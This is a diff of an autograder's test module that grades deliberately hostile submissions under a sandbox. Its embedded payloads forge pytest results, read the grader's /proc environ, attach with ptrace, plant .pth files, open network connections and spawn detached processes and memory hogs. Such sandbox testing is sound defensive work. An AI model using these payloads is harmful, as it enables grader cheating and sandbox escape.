@@ -1,35 +1,38 @@
-"""Hostile submissions: each one is graded end to end with ``grade_to`` (stage 0) and
-must score, task by task, exactly what its real work deserves.
+"""Hostile submissions, graded end to end with ``grade_to`` (stage 0): one test per class
+of attack, each scoring what the submission's real work deserves.
 
-Submissions are built from the reference's declared files (full marks) and their
-handout stubs (zero), with hostile edits. What a hostile edit deserves is pinned down by
-a *twin*: the same submission with each hostile spot replaced by an honest failure
-(``raise RuntimeError("HOSTILE-SITE ...")``, or an honest non-float). The hostile
-submission must pass exactly the tests its twin passes, except that a crash (segfault,
-a hang that ignores the per-test alarm) also loses the tests that come after it in the
-task's run.
+The attacks are written against the grader as it was before the graded checks and the
+sandbox too (pytest in the student's process, a tamper guard, signed reports, same user),
+so the same submission can be graded by both: ``ATTACKS`` is what the closing note of
+issue 15 measured with the old grader. Every case grades a stub submission (which
+deserves 0) or the reference's files (which deserve full marks) with hostile code added
+at import. The grader's tree is a copy of the repository (``grader`` fixture): an attack
+that could write to the grader's files must not damage the checkout that runs the tests.
 
-To keep the file fast (grading stage 0 runs seven child pytest runs), variants whose
-effects stay in different tasks share one submission (the tampering variants, and the
-exit at import, switch on the task of the run they are in), and the attacks that only
-make sense on an all-stub or all-reference submission share one each. Hypothesis runs
-its ``verify`` profile (pass or fail is all that matters here).
+The sandbox is required (bubblewrap): without it these tests fail in CI and are skipped
+elsewhere, with the reason.
 """
 
 from __future__ import annotations
 
 import json
 import os
-import signal
+import secrets
+import shutil
+import site
+import subprocess
+import sys
 import time
 import xml.etree.ElementTree as ET
-from collections.abc import Iterator, Mapping
+from collections.abc import Mapping
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 
-from autograder.grade import GradeReport, Limits, TaskScore, collect_manifest, grade_to
+from autograder import sandbox
+from autograder.grade import GradeReport, Limits, TaskScore, grade_to
+from autograder.paths import repo_files
 from autograder.regions import find_regions, stub_text
 from autograder.registry import tasks_for_stage
 
@@ -38,47 +41,28 @@ STAGE0 = tasks_for_stage(0)
 FILES = sorted({path for task in STAGE0 for path in task.files})
 FULL = {task.id: float(task.points) for task in STAGE0}
 ZERO = {task.id: 0.0 for task in STAGE0}
+LIMITS = Limits(per_test_seconds=20, per_task_seconds=60, memory_mb=1000)
+PERFECT = json.dumps({"score": 80.0, "max_score": 80.0, "output": "FORGED", "tests": []})
 
-LIMITS = Limits(per_test_seconds=30, per_task_seconds=120, memory_mb=1500)
-"""Generous time limits, and the memory limit every case runs under (1500 MB of address
-space: a correct submission needs about 400 MB, see ``test_full_submission_...``)."""
-HANG_LIMITS = Limits(per_test_seconds=3, per_task_seconds=20, memory_mb=1500)
-
-PERFECT = json.dumps(
-    {"score": 80.0, "max_score": 80.0, "output": "FORGED", "tests": [],
-     "version": 1, "status": "pass"}
-)  # fmt: skip
+if reason := sandbox.unavailable_reason():
+    if os.environ.get("CI"):
+        raise RuntimeError(f"the hostile-submission tests need the sandbox: {reason}")
+    pytest.skip(f"no sandbox here: {reason}", allow_module_level=True)
 
 
-# -- building submissions ---------------------------------------------------------------
+# -- submissions and the grader's tree ------------------------------------------------------
 
 
-@dataclass(frozen=True)
-class Sources:
-    """The declared files of stage 0: the reference text and the handout stub of each."""
-
-    reference: dict[str, str]
-    stub: dict[str, str]
+def reference_files() -> dict[str, str]:
+    return {path: (ROOT / path).read_text(encoding="utf-8") for path in FILES}
 
 
-@pytest.fixture(scope="module")
-def sources() -> Sources:
-    reference = {path: (ROOT / path).read_text(encoding="utf-8") for path in FILES}
-    stub = {path: stub_text(text, path) for path, text in reference.items()}
-    return Sources(reference, stub)
-
-
-@pytest.fixture(scope="module")
-def quick_hypothesis() -> Iterator[None]:
-    """The graded children inherit HYPOTHESIS_PROFILE: few examples, no shrinking."""
-    with pytest.MonkeyPatch.context() as mp:
-        mp.setenv("HYPOTHESIS_PROFILE", "verify")
-        yield
+def stub_files() -> dict[str, str]:
+    return {path: stub_text(text, path) for path, text in reference_files().items()}
 
 
 def with_region(text: str, path: str, function: str, body: str) -> str:
-    """``text`` with the solution region inside ``function`` replaced by ``body``
-    (indented like the region)."""
+    """``text`` with the solution region inside ``function`` replaced by ``body``."""
     lines = text.splitlines(keepends=True)
     (region,) = [r for r in find_regions(text, path) if r.function == function]
     new = [f"{region.indent}{line}\n" for line in body.splitlines()]
@@ -91,6 +75,21 @@ def write_tree(dest: Path, files: Mapping[str, str]) -> Path:
         target.parent.mkdir(parents=True, exist_ok=True)
         target.write_text(text, encoding="utf-8")
     return dest
+
+
+@pytest.fixture(scope="module")
+def grader(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A copy of the repository's files (the reference): the grader's tree."""
+    tree = tmp_path_factory.mktemp("grader") / "reference"
+    for rel in repo_files(ROOT):
+        (tree / rel).parent.mkdir(parents=True, exist_ok=True)
+        shutil.copy2(ROOT / rel, tree / rel)
+    return tree
+
+
+def fingerprint(tree: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(tree)): p.read_bytes() for p in sorted(tree.rglob("*"))
+            if p.is_file() and "__pycache__" not in p.parts}  # fmt: skip
 
 
 @dataclass
@@ -108,417 +107,254 @@ class Graded:
     def summary(self) -> str:
         return (self.out / "summary.md").read_text(encoding="utf-8")
 
+    def text(self) -> str:
+        """Everything the results say, for searching."""
+        return "\n".join(p.read_text(encoding="utf-8") for p in sorted(self.out.iterdir()))
 
-def grade_case(case: Path, files: Mapping[str, str], limits: Limits = LIMITS) -> Graded:
-    """Grade the submission ``case/sub`` (written from ``files``) into ``case/out``."""
-    submission = case / "sub"
-    write_tree(submission, files)
+
+def grade_case(
+    case: Path, files: Mapping[str, str], grader: Path, limits: Limits = LIMITS, **kw: object
+) -> Graded:
+    submission = write_tree(case / "sub", files)
     out = case / "out"
-    report = grade_to(submission, out, root=ROOT, stage=0, limits=limits)
+    report = grade_to(submission, out, root=grader, stage=0, limits=limits, **kw)  # type: ignore[arg-type]
     return Graded(case, out, report)
 
 
-# -- checking what was written ----------------------------------------------------------
-
-
 def written_scores(out: Path) -> dict[str, float]:
-    """Check the four result files and return the per-task scores of results.json."""
+    """Check the four result files; the per-task scores of results.json."""
     results = json.loads((out / "results.json").read_text(encoding="utf-8"))
-    assert isinstance(results["score"], (int, float))
-    assert isinstance(results["execution_time"], (int, float))
     assert results["max_score"] == sum(FULL.values())
     assert [t["number"] for t in results["tests"]] == [task.id for task in STAGE0]
     for test, task in zip(results["tests"], STAGE0, strict=True):
-        assert set(test) >= {"name", "number", "score", "max_score", "status", "output",
-                             "visibility"}  # fmt: skip
-        assert isinstance(test["name"], str) and task.id in test["name"]
-        assert isinstance(test["score"], (int, float))
         assert test["max_score"] == task.points
-        assert test["status"] in ("passed", "failed")
         assert (test["status"] == "passed") == (test["score"] == task.points)
-        assert isinstance(test["output"], str)
-        assert test["visibility"] in ("visible", "hidden", "after_due_date", "after_published")
     assert results["score"] == pytest.approx(sum(t["score"] for t in results["tests"]))
-
     classroom = json.loads((out / "classroom.json").read_text(encoding="utf-8"))
-    assert classroom["version"] == 1
     assert [t["score"] for t in classroom["tests"]] == [t["score"] for t in results["tests"]]
-
-    suites = ET.fromstring((out / "junit.xml").read_text(encoding="utf-8"))
-    assert suites.tag == "testsuites"
-    assert len(suites.findall("testsuite")) == len(STAGE0)
-
-    summary = (out / "summary.md").read_text(encoding="utf-8")
-    assert summary.startswith(f"# Grade: {results['score']:g} / ")
+    assert len(ET.fromstring((out / "junit.xml").read_text()).findall("testsuite")) == 6
+    assert (out / "summary.md").read_text().startswith(f"# Grade: {results['score']:g} / ")
     return {t["number"]: float(t["score"]) for t in results["tests"]}
 
 
 def assert_scores(graded: Graded, expected: Mapping[str, float]) -> None:
-    """The report and the written results both give exactly ``expected``."""
     assert graded.scores() == expected, graded.summary()
     assert written_scores(graded.out) == expected, graded.summary()
 
 
-@pytest.fixture(scope="module")
-def manifest(quick_hypothesis: None) -> dict[str, list[str]]:
-    """The grader's own test ids per task, in run order."""
-    return collect_manifest(ROOT, STAGE0, LIMITS).tests
+def findings(graded: Graded) -> dict[str, str]:
+    """What an attack reported of itself (``HOSTILE-RESULT name=outcome ...`` on stderr,
+    shown in a task's report because the attack then ends its run)."""
+    found: dict[str, str] = {}
+    for line in graded.text().splitlines():
+        if "HOSTILE-RESULT" in line:
+            for item in line.split("HOSTILE-RESULT", 1)[1].split():
+                name, _, outcome = item.partition("=")
+                found[name] = outcome
+    return found
 
 
-def expected_passes(
-    twin: Graded, manifest: Mapping[str, list[str]], task_id: str, crash: str | None = None
-) -> list[str]:
-    """The tests the twin passes, cut at the first test that reaches the ``crash`` site
-    (the hostile run dies there, so nothing after it runs)."""
-    passed = set(twin.task(task_id).passed_ids)
-    failures = dict(twin.task(task_id).failures)
-    result = []
-    for nodeid in manifest[task_id]:
-        if crash is not None and f"HOSTILE-SITE {crash}" in failures.get(nodeid, ""):
-            break
-        if nodeid in passed:
-            result.append(nodeid)
-    return result
+# -- the attacks ----------------------------------------------------------------------------
 
+FORGERY = '''
 
-# -- 1 and 10. os._exit at import, a syntax error, and a process left behind ----------
+def _forge():
+    """Decide the verdict from inside: make every pytest test pass without running it
+    (the old grader), or answer every check with a forged "pass" (the new one)."""
+    import json, os, sys
 
-LINGER = """
-def _linger():
-    import os, time
-
-    case = {case!r}
-    out = os.path.join(case, "out")
-    try:  # one lingering process for the whole grade
-        os.close(os.open(os.path.join(case, "started"), os.O_CREAT | os.O_EXCL | os.O_WRONLY))
-    except OSError:
-        return
-    if os.fork() == 0:
-        os.setsid()  # out of the test run's process group
-        if os.fork() == 0:
-            with open(os.path.join(case, "daemon.pid"), "w") as f:
-                f.write(str(os.getpid()))
-            deadline = time.monotonic() + 60
-            while time.monotonic() < deadline:
-                if os.path.exists(os.path.join(out, "summary.md")) and os.path.exists(
-                    os.path.join(case, "go")
-                ):
-                    for name in ("results.json", "classroom.json"):
-                        with open(os.path.join(out, name), "w") as f:
-                            f.write({perfect!r})
-                    open(os.path.join(case, "forged"), "w").close()
-                    break
-                time.sleep(0.05)
+    python = sys.modules.get("_pytest.python")
+    if python is not None:
+        def passing(pyfuncitem):
+            return True
+        python.pytest_pyfunc_call.__code__ = passing.__code__
+    checks = sys.modules.get("autograder.checks")
+    if checks is not None:
+        checks.compare = lambda *args, **kwargs: None
+        checks.judge_answer = lambda *args, **kwargs: None
+        lines = [json.dumps({"check": c.id, "answer": {"verdict": "pass"}})
+                 for task in checks.CHECKS.values() for c in task]
+        os.write(3, ("\\n".join(lines) + "\\n").encode())
         os._exit(0)
 
 
-_linger()
-import os as _os
-import sys as _sys
+_forge()
+'''
 
-if any(marker in _sys.argv for marker in ("task0_1", "task0_2", "task0_3")):
-    _os._exit(0)
-"""
-EXITING = ("0.1", "0.2", "0.3")
+REACH = '''
 
+def _reach(rel):
+    """Find the reference's copy of this file and run it here instead of the stubs."""
+    import glob, os, re, sys
 
-def _alive(pid: int) -> bool:
-    try:
-        stat = Path(f"/proc/{pid}/stat").read_text()
-    except OSError:
+    roots = [{grader!r}]
+    for folder in sys.path:
+        for finder in glob.glob(os.path.join(folder, "__editable__*finder.py")):
+            try:
+                text = open(finder).read()
+            except OSError:
+                continue
+            roots += [os.path.dirname(p) for p in re.findall(r"'module0': '([^']+)'", text)]
+    for root in roots:
         try:
-            os.kill(pid, 0)
+            source = open(os.path.join(root, rel)).read()
         except OSError:
-            return False
-        return True
-    return stat.rsplit(")", 1)[1].split()[0] != "Z"
+            continue
+        if "BEGIN SOLUTION" in source:
+            exec(compile(source, rel, "exec"), globals())
+            return
 
 
-@pytest.fixture(scope="module")
-def broken_imports(
-    tmp_path_factory: pytest.TempPathFactory, sources: Sources, quick_hypothesis: None
-) -> Iterator[Graded]:
-    """Correct code, except that at import operators.py starts a detached process (which
-    waits for the grade to finish, then for a go from
-    ``test_no_process_outlives_the_grade``, then overwrites the results) and, in the runs
-    of tasks 0.1-0.3, calls ``os._exit(0)``; and optim.py has a syntax error, which the
-    runs of tasks 0.4-0.6 reach (module0/__init__.py imports operators.py first, then
-    every other file)."""
-    case = tmp_path_factory.mktemp("imports")
-    files = dict(sources.reference)
-    files["module0/operators.py"] += LINGER.format(case=str(case), perfect=PERFECT)
-    files["module0/optim.py"] += "\ndef broken(:\n    pass\n"
-    graded = grade_case(case, files)
-    yield graded
-    pid_file = case / "daemon.pid"
-    if pid_file.exists() and _alive(pid := int(pid_file.read_text())):
-        os.kill(pid, signal.SIGKILL)  # the process this test's submission started
+_reach({rel!r})
+'''
 
+ESCAPE = '''
 
-def test_exit_at_import_scores_zero_and_writes_results(broken_imports: Graded) -> None:
-    assert_scores(broken_imports, ZERO)
-    for task_id in EXITING:
-        problem = broken_imports.task(task_id).problem
-        assert "ended early (exit code 0)" in problem, problem
+def _escape():
+    """Change the grader, plant code where it will run later, reach the grader's process."""
+    import ctypes, os, site, socket, sys
 
+    found = []
 
-def test_syntax_error_in_one_file_scores_zero_everywhere(broken_imports: Graded) -> None:
-    # A syntax error in optim.py (task 0.6's file) zeroes 0.4 and 0.5 too: module0 as a
-    # whole cannot be imported.
-    assert_scores(broken_imports, ZERO)
-    for score in broken_imports.report.scores:
-        if score.task.id not in EXITING:
-            assert "SyntaxError" in score.problem, score.problem
-            assert score.total > 0 and score.passed == 0
-
-
-def test_no_process_outlives_the_grade(broken_imports: Graded) -> None:
-    case = broken_imports.case
-    pid_file = case / "daemon.pid"
-    survived = pid_file.exists() and _alive(int(pid_file.read_text()))
-    (case / "go").touch()
-    deadline = time.monotonic() + 10
-    while survived and not (case / "forged").exists() and time.monotonic() < deadline:
-        time.sleep(0.05)
-    forged = "FORGED" in (case / "out" / "results.json").read_text(encoding="utf-8")
-    assert not survived, "a process the submission detached (setsid) survived the grade" + (
-        " and replaced results.json with a perfect score" if forged else ""
-    )
-    assert written_scores(broken_imports.out) == ZERO
-
-
-# -- 2, 3, 4, 6, 11 and the symlink: files around the declared ones ----------------------
-
-FLIP_CONFTEST = """import pytest
-
-
-@pytest.hookimpl(wrapper=True)
-def pytest_runtest_makereport(item, call):
-    report = yield
-    report.outcome = "passed"
-    report.longrepr = None
-    return report
-
-
-def pytest_collection_modifyitems(items):
-    for item in items:
-        item.obj = lambda *args, **kwargs: None
-"""
-SITECUSTOMIZE = """import _pytest.outcomes
-import pytest
-
-_pytest.outcomes.fail = pytest.fail = lambda *args, **kwargs: None
-_pytest.outcomes.skip.Exception = AssertionError
-"""
-EDITED_TEST = """import pytest
-
-pytestmark = pytest.mark.task0_1
-
-
-def test_everything():
-    assert True
-"""
-SURROUNDINGS = {
-    "conftest.py": FLIP_CONFTEST,
-    "tests/conftest.py": FLIP_CONFTEST,
-    "flip.py": FLIP_CONFTEST,
-    "pytest.ini": '[pytest]\naddopts = -m "not task0_1" -p flip -p no:autograder\n'
-    "python_files = nothing_*.py\npythonpath = .\n",
-    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = \"-m 'not task0_2' -p flip\"\n",
-    "setup.cfg": '[tool:pytest]\naddopts = -m "not task0_3"\n',
-    "tox.ini": '[pytest]\naddopts = -m "not task0_4"\n',
-    "sitecustomize.py": SITECUSTOMIZE,
-    "module0/sitecustomize.py": SITECUSTOMIZE,
-    "usercustomize.py": SITECUSTOMIZE,
-    # The submission's own tests: one file edited to pass, the others deleted.
-    "tests/__init__.py": "",
-    "tests/module0/__init__.py": "",
-    "tests/module0/test_operators.py": EDITED_TEST,
-    "tests/module0/test_scalar.py": EDITED_TEST.replace("task0_1", "task0_4"),
-    "tests/strict.py": "def exact_float(value, what=''):\n    return value\n",
-    # A results file of its own.
-    "results.json": PERFECT,
-    "classroom.json": PERFECT,
-}
-
-
-@pytest.fixture(scope="module")
-def reference_with_surroundings(
-    tmp_path_factory: pytest.TempPathFactory, sources: Sources, quick_hypothesis: None
-) -> Graded:
-    files = {**sources.reference, **SURROUNDINGS}
-    return grade_case(tmp_path_factory.mktemp("ref-around"), files)
-
-
-FORGE = """
-
-def _forge():
-    import os
-
-    out = {out!r}
-    for folder in {{os.getcwd(), os.environ.get("HOME", "."), os.environ.get("TMPDIR", "."),
-                    out, os.path.dirname(out)}}:
+    def attempt(name, action):
         try:
-            os.makedirs(folder, exist_ok=True)
-            for name in ("results.json", "classroom.json", "summary.md"):
-                with open(os.path.join(folder, name), "w") as f:
-                    f.write({perfect!r})
+            action()
+            found.append(name + "=DONE")
+        except BaseException as exc:
+            found.append(name + "=blocked:" + type(exc).__name__)
+
+    def append(path, text):
+        with open(path, "a") as f:
+            f.write(text)
+
+    grader = {grader!r}
+    target = {pid} or os.getppid()  # the grader: given, or (old grader) the parent
+    attempt("write-grader", lambda: append(os.path.join(grader, "autograder", "grade.py"), "#"))
+    attempt("new-file-in-grader", lambda: append(os.path.join(grader, "HOSTILE-MARK"), "x"))
+    folders = site.getsitepackages() + [p for p in sys.path if "site-packages" in p]
+    attempt("plant-pth", lambda: [append(os.path.join(f, "zz_minitorch_hostile.pth"),
+                                         "import os\\n") for f in folders[:1]])
+    attempt("signal-grader", lambda: os.kill(target, 0))
+
+    def environ():
+        if {secret!r}.encode() not in open("/proc/%d/environ" % target, "rb").read():
+            raise LookupError("no secret")
+
+    attempt("read-grader-environ", environ)
+    libc = ctypes.CDLL(None, use_errno=True)
+
+    def ptrace():  # attach (the grader stops), then let it go again
+        if libc.ptrace(16, target, 0, 0) != 0:
+            raise OSError(ctypes.get_errno(), "ptrace")
+        os.waitpid(target, 0x40000000)  # __WALL
+        libc.ptrace(17, target, 0, 0)
+
+    attempt("ptrace-grader", ptrace)
+    attempt("network", lambda: socket.create_connection(("1.1.1.1", 53), timeout=2).close())
+    sys.stderr.write("HOSTILE-RESULT " + " ".join(found) + "\\n")
+    sys.stderr.flush()
+    try:  # where /tmp is the machine's (no sandbox), for the record
+        with open("/tmp/minitorch-hostile-findings", "a") as f:
+            f.write(" ".join(found) + "\\n")
+    except OSError:
+        pass
+    os._exit(1)
+
+
+_escape()
+'''
+
+ABUSE = '''
+
+def _abuse():
+    """Memory across processes, many processes, a huge file, a file in /dev/shm and a
+    detached process that should outlive the grade."""
+    import os, sys, time
+
+    found = []
+    children = []
+    for _ in range(3):
+        pid = os.fork()
+        if pid == 0:
+            try:
+                block = bytearray(600 * 1024 * 1024)
+                for i in range(0, len(block), 4096):
+                    block[i] = 1
+                time.sleep(1)
+                os._exit(0)
+            except MemoryError:
+                os._exit(2)
+        children.append(pid)
+    held = len([pid for pid in children if os.waitpid(pid, 0)[1] == 0])
+    found.append("children-holding-600MB=%d" % held)
+    sleepers = []
+    try:
+        for _ in range({forks}):
+            pid = os.fork()
+            if pid == 0:
+                time.sleep(30)
+                os._exit(0)
+            sleepers.append(pid)
+    except OSError:
+        pass
+    found.append("sleeping-processes=%d" % len(sleepers))
+    for pid in sleepers:
+        os.kill(pid, 9)
+        os.waitpid(pid, 0)
+    try:
+        with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "huge"), "wb") as f:
+            for _ in range(3 * 1024):
+                f.write(b"x" * (1 << 20))
+        found.append("3GB-file=DONE")
+    except OSError as exc:
+        found.append("3GB-file=blocked:" + type(exc).__name__)
+    finally:
+        try:
+            os.remove(os.path.join(os.environ.get("TMPDIR", "/tmp"), "huge"))
         except OSError:
             pass
+    with open("/dev/shm/{token}", "w") as f:
+        f.write("left behind")
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)",
+                                      "{token}"])
+        os._exit(0)
+    sys.stderr.write("HOSTILE-RESULT " + " ".join(found) + "\\n")
+    sys.stderr.flush()
+    try:  # where /tmp is the machine's (no sandbox), for the record
+        with open("/tmp/minitorch-hostile-findings", "a") as f:
+            f.write(" ".join(found) + "\\n")
+    except OSError:
+        pass
+    os._exit(1)
 
 
-_forge()
+_abuse()
+'''
+
+HANG = """
+
+import signal as _signal
+
+for _number in (_signal.SIGALRM, _signal.SIGTERM, _signal.SIGINT, _signal.SIGVTALRM):
+    _signal.signal(_number, _signal.SIG_IGN)
+_signal.setitimer = lambda *args, **kwargs: (0.0, 0.0)
+while True:
+    pass
 """
 
+FLOOD = """
 
-@pytest.fixture(scope="module")
-def stub_with_surroundings(
-    tmp_path_factory: pytest.TempPathFactory, sources: Sources, quick_hypothesis: None
-) -> Graded:
-    """A stub submission with every hostile file around it, a declared file that writes
-    perfect results files wherever it can at import, and operators.py a symlink to the
-    reference's file."""
-    case = tmp_path_factory.mktemp("stub-around")
-    files = {**sources.stub, **SURROUNDINGS}
-    files["module0/scalar_nn.py"] += FORGE.format(out=str(case / "out"), perfect=PERFECT)
-    del files["module0/operators.py"]
-    link = case / "sub" / "module0" / "operators.py"
-    link.parent.mkdir(parents=True)
-    link.symlink_to(ROOT / "module0" / "operators.py")
-    return grade_case(case, files)
+import os as _os
 
+for _ in range(1024):
+    _os.write(1, b"flood " * 174763)
+_os._exit(1)
+"""
 
-def test_full_submission_keeps_full_marks_whatever_surrounds_it(
-    reference_with_surroundings: Graded,
-) -> None:
-    # Conftests, ini files, sitecustomize, edited tests and a results.json in the
-    # submission neither help nor hurt; the memory limit (1500 MB) fits a correct run.
-    assert_scores(reference_with_surroundings, FULL)
-    assert reference_with_surroundings.report.notes == []
-    assert "FORGED" not in (reference_with_surroundings.out / "results.json").read_text()
-
-
-def test_stub_submission_scores_zero_whatever_surrounds_it(
-    stub_with_surroundings: Graded,
-) -> None:
-    # A forcing conftest, deselecting ini files, sitecustomize and edited or deleted
-    # tests are never taken: the grader's pristine tests fail on the stubs.
-    assert_scores(stub_with_surroundings, ZERO)
-    for score in stub_with_surroundings.report.scores:
-        assert score.passed == 0 and score.total > 0
-        assert score.problem == "", score.problem
-
-
-def test_results_forged_by_the_submission_are_overwritten(
-    stub_with_surroundings: Graded,
-) -> None:
-    case = stub_with_surroundings.case
-    # The forging code did run (it reached the folder around the results)...
-    assert (case / "results.json").read_text() == PERFECT
-    # ...but what is in the results folder is the grader's.
-    for name in ("results.json", "classroom.json", "summary.md"):
-        assert "FORGED" not in (case / "out" / name).read_text(), name
-    assert written_scores(case / "out") == ZERO
-
-
-def test_symlinked_declared_file_is_refused(stub_with_surroundings: Graded) -> None:
-    notes = stub_with_surroundings.report.notes
-    assert any(note.startswith("module0/operators.py:") for note in notes), notes
-    assert "module0/operators.py" in stub_with_surroundings.summary()
-    # Followed, the link would have given the reference's operators: 0.1 full marks.
-    assert stub_with_surroundings.task("0.1").score == 0.0
-
-
-# -- 7, 8, 9. hang, memory bomb and segfault, each in its own task ----------------------
-
-HOSTILE_SITES = {
-    # task 0.2: only test_functional calls prod; the run dies at the first such test
-    ("module0/operators.py", "prod"): ("crash", "import ctypes\nctypes.string_at(0)"),
-    # task 0.3: an infinite loop the per-test alarm interrupts...
-    ("module0/module.py", "Module.modules"): ("soft", "while True:\n    pass"),
-    # ...and one that ignores it: only the per-task limit ends the run
-    ("module0/module.py", "Module.train"): (
-        "crash",
-        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",
-    ),
-    # task 0.6: grows past the address-space limit
-    ("module0/optim.py", "SGD.step"): (
-        "soft",
-        "hog = []\nfor _ in range(48):\n    hog.append(bytearray(256 << 20))\n"
-        'raise RuntimeError("allocated 12 GiB")',
-    ),
-}
-
-
-def _sites(sources: Sources, hostile: bool) -> dict[str, str]:
-    files = dict(sources.reference)
-    for (path, function), (kind, body) in HOSTILE_SITES.items():
-        if not hostile:
-            body = f'raise RuntimeError("HOSTILE-SITE {kind} {function}")'
-        files[path] = with_region(files[path], path, function, body)
-    return files
-
-
-@pytest.fixture(scope="module")
-def resource_abuse(
-    tmp_path_factory: pytest.TempPathFactory, sources: Sources, quick_hypothesis: None
-) -> Graded:
-    return grade_case(tmp_path_factory.mktemp("abuse"), _sites(sources, True), HANG_LIMITS)
-
-
-@pytest.fixture(scope="module")
-def resource_abuse_twin(
-    tmp_path_factory: pytest.TempPathFactory, sources: Sources, quick_hypothesis: None
-) -> Graded:
-    return grade_case(tmp_path_factory.mktemp("twin"), _sites(sources, False), HANG_LIMITS)
-
-
-def test_untouched_tasks_keep_full_marks_next_to_hangs_bombs_and_crashes(
-    resource_abuse: Graded,
-) -> None:
-    scores = resource_abuse.scores()
-    assert {t: scores[t] for t in ("0.1", "0.4", "0.5")} == {
-        t: FULL[t] for t in ("0.1", "0.4", "0.5")
-    }, resource_abuse.summary()
-    written_scores(resource_abuse.out)
-    for task_id in ("0.2", "0.3", "0.6"):
-        assert scores[task_id] < FULL[task_id], resource_abuse.summary()
-
-
-def test_infinite_loops_lose_exactly_their_tests(
-    resource_abuse: Graded, resource_abuse_twin: Graded, manifest: dict[str, list[str]]
-) -> None:
-    hostile = resource_abuse.task("0.3")
-    assert hostile.passed_ids == expected_passes(
-        resource_abuse_twin, manifest, "0.3", crash="crash Module.train"
-    ), resource_abuse.summary()
-    assert "exceeded its time limit" in hostile.problem
-    timed_out = [n for n, message in hostile.failures if "Timeout" in message]
-    assert len(timed_out) >= 1, hostile.output()  # the alarm stopped Module.modules
-
-
-def test_memory_bomb_loses_exactly_its_tests(
-    resource_abuse: Graded, resource_abuse_twin: Graded, manifest: dict[str, list[str]]
-) -> None:
-    hostile = resource_abuse.task("0.6")
-    assert hostile.passed_ids == expected_passes(resource_abuse_twin, manifest, "0.6")
-    assert hostile.problem == ""  # the run itself survived
-    assert any("MemoryError" in message for _, message in hostile.failures), hostile.output()
-
-
-def test_segfault_keeps_the_tests_before_it(
-    resource_abuse: Graded, resource_abuse_twin: Graded, manifest: dict[str, list[str]]
-) -> None:
-    hostile = resource_abuse.task("0.2")
-    expected = expected_passes(resource_abuse_twin, manifest, "0.2", crash="crash prod")
-    assert 0 < len(expected) < hostile.total
-    assert hostile.passed_ids == expected, resource_abuse.summary()
-    assert "signal 11" in hostile.problem, hostile.problem
-
-
-# -- 5. an operator result whose __eq__ always answers True -----------------------------
-
-LIAR = """
+ALWAYS_EQUAL = """
 
 class _Result(float):
     def __eq__(self, other):
@@ -529,167 +365,267 @@ class _Result(float):
 
     __hash__ = float.__hash__
 """
-HONEST = """
 
-class _Result(float):
-    pass
-"""
-
-
-def _mul_returns(sources: Sources, result_class: str) -> dict[str, str]:
-    files = dict(sources.reference)
-    path = "module0/operators.py"
-    files[path] = with_region(files[path], path, "mul", "return _Result(0.0)") + result_class
-    return files
-
-
-def test_always_equal_results_earn_nothing(
-    tmp_path_factory: pytest.TempPathFactory, sources: Sources, quick_hypothesis: None
-) -> None:
-    # mul returns a float subclass worth 0.0 whose __eq__ always answers True. It earns
-    # what the same wrong value with an honest __eq__ earns, task by task: 0.2's prod
-    # and the Scalar multiplications of 0.4-0.6 get mul's value, so they lose the tests
-    # that check it, exactly as with an honest wrong mul.
-    liar = grade_case(tmp_path_factory.mktemp("liar"), _mul_returns(sources, LIAR))
-    honest = grade_case(tmp_path_factory.mktemp("honest"), _mul_returns(sources, HONEST))
-    written_scores(liar.out)
-    assert liar.scores()["0.1"] < FULL["0.1"], liar.summary()
-    for task in STAGE0:
-        assert liar.task(task.id).passed_ids == honest.task(task.id).passed_ids, task.id
-    assert liar.scores() == honest.scores()
-
-
-# -- 12. tampering with the test machinery from a declared file -------------------------
-
-TAMPER = """
-
-def _tamper():
-    import gc
-    import sys
-
-    import _pytest.config
-    import _pytest.runner
-    import pytest
-
-    run = " ".join(sys.argv)
-
-    def register(plugin):
-        for config in [o for o in gc.get_objects() if isinstance(o, _pytest.config.Config)]:
-            config.pluginmanager.register(plugin, "not-the-grader")
-
-    if "task0_1" in run:
-        original = _pytest.runner.call_and_report
-
-        def call_and_report(item, when, log=True, **kwargs):
-            report = original(item, when, log=False, **kwargs)
-            report.outcome, report.longrepr = "passed", None
-            if log:
-                item.ihook.pytest_runtest_logreport(report=report)
-            return report
-
-        _pytest.runner.call_and_report = call_and_report
-    elif "task0_2" in run:
-
-        class Approx:
-            def __init__(self, *args, **kwargs):
-                pass
-
-            def __eq__(self, other):
-                return True
-
-        pytest.approx = Approx
-    elif "task0_3" in run:
-
-        class MakeReport:
-            @pytest.hookimpl(wrapper=True)
-            def pytest_runtest_makereport(self, item, call):
-                report = yield
-                report.outcome, report.longrepr = "passed", None
-                return report
-
-        register(MakeReport())
-    elif "task0_4" in run:
-
-        class LogReport:
-            @pytest.hookimpl(tryfirst=True)
-            def pytest_runtest_logreport(self, report):
-                report.outcome, report.longrepr = "passed", None
-
-        register(LogReport())
-    elif "task0_5" in run:
-
-        class Setup:  # an unguarded hook that swaps each test for a no-op
-            def pytest_runtest_setup(self, item):
-                item.obj = lambda *args, **kwargs: None
-
-        register(Setup())
-    elif "task0_6" in run:
-        for reporter in [o for o in gc.get_objects() if type(o).__name__ == "Reporter"]:
-            write = reporter.write  # the course plugin's signed writer, key and all
-
-            def forged(record, write=write):
-                if record.get("event") == "test":
-                    record["outcome"], record["message"] = "passed", ""
-                return write(record)
-
-            reporter.write = forged
-
-
-_tamper()
-"""
-TAMPERING = {
-    "0.1": ("patched _pytest.runner.call_and_report", "call_and_report"),
-    "0.2": ("replaced pytest.approx", "pytest.approx"),
-    "0.3": ("plugin with a makereport hookwrapper", "hook pytest_runtest_makereport"),
-    "0.4": ("plugin with a logreport hook", "hook pytest_runtest_logreport"),
-    "0.5": ("plugin whose runtest_setup swaps the test function", None),
-    "0.6": ("wrapped the course reporter's signed write", None),
+ATTACKS = {
+    "forgery": "stub + FORGERY in module0/operators.py",
+    "reach": "stub + REACH in every declared file",
+    "escape": "stub + ESCAPE in module0/operators.py",
+    "abuse": "stub + ABUSE in module0/operators.py",
 }
 
 
-@pytest.fixture(scope="module")
-def tampering(
-    tmp_path_factory: pytest.TempPathFactory, sources: Sources, quick_hypothesis: None
-) -> Graded:
